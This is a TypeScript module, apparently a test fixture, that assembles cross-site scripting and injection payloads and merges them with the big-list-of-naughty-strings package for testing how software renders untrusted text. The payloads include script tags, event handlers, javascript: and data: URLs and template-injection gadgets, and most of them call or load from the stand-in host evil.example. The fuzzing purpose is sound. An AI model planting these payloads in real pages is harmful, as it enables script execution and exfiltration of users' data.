/** @module Texts that have harmed programs which show them: the big list of naughty strings, and ways of running a script. */

import { createRequire } from 'node:module'

/** What would run sets this mark on the page and asks another host. */
const CALL = `window.__pwned=1;fetch('https://evil.example/?q=1')`

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'iframe',
  'object data=x',
]
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onstart', 'onanimationstart']
const WRAPPERS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `"'>${html}`,
  (html) => `</script></style></title></textarea>${html}`,
]
const SINGLE = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=https://evil.example/x.js></script>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><button>x</button></form>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${CALL}">`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s>`,
  `![](https://evil.example/?q=1)`,
  `[x](javascript:${CALL})`,
  `<img src="https://evil.example/pixel.png">`,
  `{{constructor.constructor("${CALL}")()}}`,
  `\${${CALL}}`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
]
const SCRIPTS = WRAPPERS.flatMap((wrap) =>
  TAGS.flatMap((tag) => HANDLERS.map((handler) => wrap(`<${tag} ${handler}="${CALL}">`))),
)

const NAUGHTY: readonly string[] = createRequire(import.meta.url)('big-list-of-naughty-strings')

/** 461 naughty strings and 230 ways of running a script; none of them empty. */
export const PAYLOADS: readonly string[] = [...SINGLE, ...SCRIPTS, ...NAUGHTY].filter(
  (text) => text.trim() !== '' && !text.includes('\0'),
)
